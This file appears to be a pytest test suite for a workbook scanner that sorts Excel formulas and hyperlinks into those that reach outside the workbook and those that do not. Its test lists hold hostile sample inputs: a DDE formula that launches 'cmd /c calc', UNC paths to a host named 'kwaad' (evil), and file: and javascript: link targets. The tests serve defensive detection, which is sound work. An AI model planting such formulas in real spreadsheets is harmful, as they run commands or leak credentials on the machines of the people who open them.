"""Which formulas reach out of a workbook, and which only look like it."""

import pytest

from planner.exchange.workbook_scan_formulas import MOST_IN_FORMULA, leads_out
from tests.exchange.workbooks.raw_book import MAIN, SHEET, relations, sheet, with_parts, workbook
from tests.exchange.workbooks.test_scan import SHEET_RELATIONS, reasons_of

LEADS_OUT = [
    '_xlfn.IMAGE("https://example.org/"&A1)',
    'WEBSERVICE ("http://example.org")',
    "cmd|'/c calc'!A1",
    "'C:\\x\\[y.csv]S'!A1",
    "'\\\\kwaad\\map\\[x.xlsx]S'!$A$1",
    "'C:/x/y.csv'!naam",
    "'[1]Blad'!A1",
    "[1]Blad!A1",
    "1+[2]!naam",
    "Tabel[1]Blad!A1",
    'HYPERLINK("\\\\kwaad\\x")',
    'HYPERLINK("file://kwaad/x","klik")',
    "Tabel['#x]&'\\\\kwaad\\[b.xlsx]S'!A1",
    '"\n"&DDE("a","b","c")',
    'CUBEVALUE("x")',
    'STOCKHISTORY("MSFT",1)',
]
STAYS_INSIDE = [
    "Tabel1[Kolom]",
    "SUM(Tabel1[[#This Row],[van]:[tot]])",
    "COUNTIF(Tabel_2[[#All],[Kolom a]],\"x\")+'Blad 1'!A1",
    "Tabel1[it''s]&'Blad 1'!A1",
    "'Blad (1)'!A1/'Het ''ene'' blad'!B2",
    "SUM('Jan:Mrt'!A1)",
    'HYPERLINK("https://example.org","klik")',
    'HYPERLINK("mailto:a@example.org")',
    'HYPERLINK("#Blad1!A1","ga")',
    'TEXT(A1,"[h]:mm")',
    'A1&"|"&B1&"\\"',
    '"zie WEBSERVICE("',
    '"ma,di,wo"',
    "A1/B1",
    "_xlfn.XLOOKUP(A1,Aanvragen!$A$1:$A$9,Aanvragen!$B$1:$B$9)",
    "#REF!",
]
IN_A_BOOK = {
    "a cell": {SHEET: sheet("<row><c><f>{}</f><v>0</v></c></row>")},
    "a list to choose from": {
        SHEET: sheet("", "<dataValidations><dataValidation><formula1>{}</formula1></dataValidation></dataValidations>")
    },
    "the other end of a check": {
        SHEET: sheet("", "<dataValidations><dataValidation><formula2>{}</formula2></dataValidation></dataValidations>")
    },
    "a list of a newer Excel": {SHEET: sheet("", "<extLst><ext><a:b xmlns:a='a'><a:f>{}</a:f></a:b></ext></extLst>")},
    "a conditional format": {
        SHEET: sheet("", "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>")
    },
    "a colour by a number": {
        SHEET: sheet("", "<conditionalFormatting><cfvo type='formula' val=\"{}\"/></conditionalFormatting>")
    },
    "a name": {"xl/workbook.xml": workbook('<definedNames><definedName name="a">{}</definedName></definedNames>')},
    "a column of a table": {
        "xl/tables/table1.xml": f'<table xmlns="{MAIN}"><calculatedColumnFormula>{{}}</calculatedColumnFormula></table>'
    },
}


@pytest.mark.parametrize("formula", LEADS_OUT)
def test_a_formula_that_reaches_out_is_known(formula: str) -> None:
    assert leads_out(formula)


@pytest.mark.parametrize("formula", STAYS_INSIDE)
def test_a_formula_that_stays_inside_is_let_be(formula: str) -> None:
    assert not leads_out(formula)


@pytest.mark.parametrize("where", IN_A_BOOK)
def test_a_formula_is_judged_wherever_it_stands(where: str) -> None:
    def book_with(formula: str) -> bytes:
        return with_parts({part: content.format(formula) for part, content in IN_A_BOOK[where].items()})

    reasons = [reasons_of(book_with(formula)) for formula in ("[1]Blad!A1", "Blad1!A1", "A" * (MOST_IN_FORMULA + 1))]

    assert reasons == [["book_has_links"], [], ["book_has_long_formula"]]


def test_a_formula_outside_of_the_cells_makes_no_far_cell() -> None:
    content = sheet('<row r="1048576"><c r="XFD1048576" s="0"/></row>', "<extLst><ext><f>A1</f></ext></extLst>")

    assert reasons_of(with_parts({SHEET: content})) == []


@pytest.mark.parametrize("target", ["file:///\\\\kwaad\\map", "\\\\kwaad\\map", "stukken/brief.docx", "javascript:a()"])
def test_a_hyperlink_to_a_file_is_refused(target: str) -> None:
    content = with_parts({SHEET_RELATIONS: relations(("rId1", "hyperlink", target, True))})

    assert reasons_of(content) == ["book_leads_to_file"]


@pytest.mark.parametrize("target", ["https://example.org", "HTTP://example.org", "mailto:a@example.org", "#Blad1!A1"])
def test_a_hyperlink_to_a_page_or_an_address_stays(target: str) -> None:
    assert reasons_of(with_parts({SHEET_RELATIONS: relations(("rId1", "hyperlink", target, True))})) == []
